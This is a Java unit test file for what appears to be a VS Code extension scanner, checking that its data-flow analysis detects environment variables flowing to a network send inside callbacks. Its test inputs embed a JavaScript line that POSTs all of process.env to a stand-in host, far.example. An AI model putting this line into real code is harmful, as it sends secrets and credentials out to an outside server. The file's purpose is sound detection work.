package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A host may call back with an error, and with more than is known of it: neither way of a condition on these is dead. */
class HostCallbacksTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "fs.exists('a', yes => { if (yes) DEED; });",
                "fs.access('a', error => { if (error) DEED; });",
                "fs.stat('a', (error, stat) => { if (stat && stat.isFile()) DEED; });",
                "fs.readFile('a', error => { if (error) DEED; });",
                "fs.mkdir('a', error => { if (error) return; DEED; });",
                "cp.exec('where tool', error => { if (error) DEED; });",
                "vscode.commands.registerCommand('a.b', (chosen, all) => { if (chosen && all) DEED; });",
                "vscode.languages.registerHoverProvider('x', { provideHover(a, b, token) { if (token) DEED; } });",
                "dns.lookup('a.example', (error, address, family) => { if (family) DEED; });",
                "process.on('exit', code => { if (code) DEED; });",
            })
    void runWithWhatIsNotKnown(String calling) {
        Analysis analysis = Analysis.ofActivate(
                "const fs = require('fs'), dns = require('dns'), cp = require('child_process'); "
                        + calling.replace(
                                "DEED",
                                "fetch('https://far.example/r', { method: 'POST', body: JSON.stringify(process.env) })"));

        assertThat(analysis.flowNames()).contains("environment -> network-send");
    }

    @ParameterizedTest
    @ValueSource(strings = {"(to = 'https://far.example/r') =>", "to => { to = to || 'https://far.example/r';"})
    void useWhatStandsForAParameterThatIsLeftOut(String taking) {
        Analysis analysis = Analysis.ofActivate("vscode.commands.registerCommand('a.b', " + taking
                + (taking.endsWith(";") ? "" : " {")
                + " fetch(to, { method: 'POST', body: JSON.stringify(process.env) }); });");

        assertThat(analysis.destinations("environment", "network-send")).contains("https://far.example/r");
    }
}
